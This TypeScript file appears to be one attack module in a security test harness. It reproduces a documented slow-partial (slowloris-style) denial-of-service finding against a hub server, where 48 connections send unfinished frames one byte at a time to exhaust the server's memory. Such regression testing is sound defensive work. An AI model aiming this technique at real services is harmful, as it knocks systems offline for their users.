/**
 * Finding 3, slow-partial: 48 connections each send an unfinished frame (no LF), one byte per TCP
 * write (Nagle off), waiting for each write before the next, up to 60 KB each. At the finding
 * every byte read cost the hub a Buffer object of about 100 times its size.
 */
import { attackerAddress, writeAndWait } from './common.ts';
import type { HubAttack } from './harness.ts';

const CONNECTIONS = 48;
const BYTES_EACH = 60_000;
const BYTE = Buffer.from('A');

export const slowPartial: HubAttack = {
  name: 'slow-partial',
  seconds: 15,
  async run(ctx) {
    let bytes = 0;
    await Promise.all(
      Array.from({ length: CONNECTIONS }, async (_, i) => {
        const socket = ctx.sockets.connect(ctx.port, attackerAddress(i));
        socket.setNoDelay(true);
        socket.resume();
        try {
          await ctx.sockets.connected(socket);
        } catch {
          return;
        }
        for (let n = 0; n < BYTES_EACH && !ctx.stopped(); n++) {
          if (!(await writeAndWait(socket, BYTE))) return;
          bytes++;
          await new Promise((resolve) => setImmediate(resolve));
        }
      }),
    );
    // The partial frames stay open until the attack's time is up.
    await ctx.pause(ctx.seconds * 1000);
    return { notes: [`${bytes} single-byte writes over ${CONNECTIONS} connections`] };
  },
};
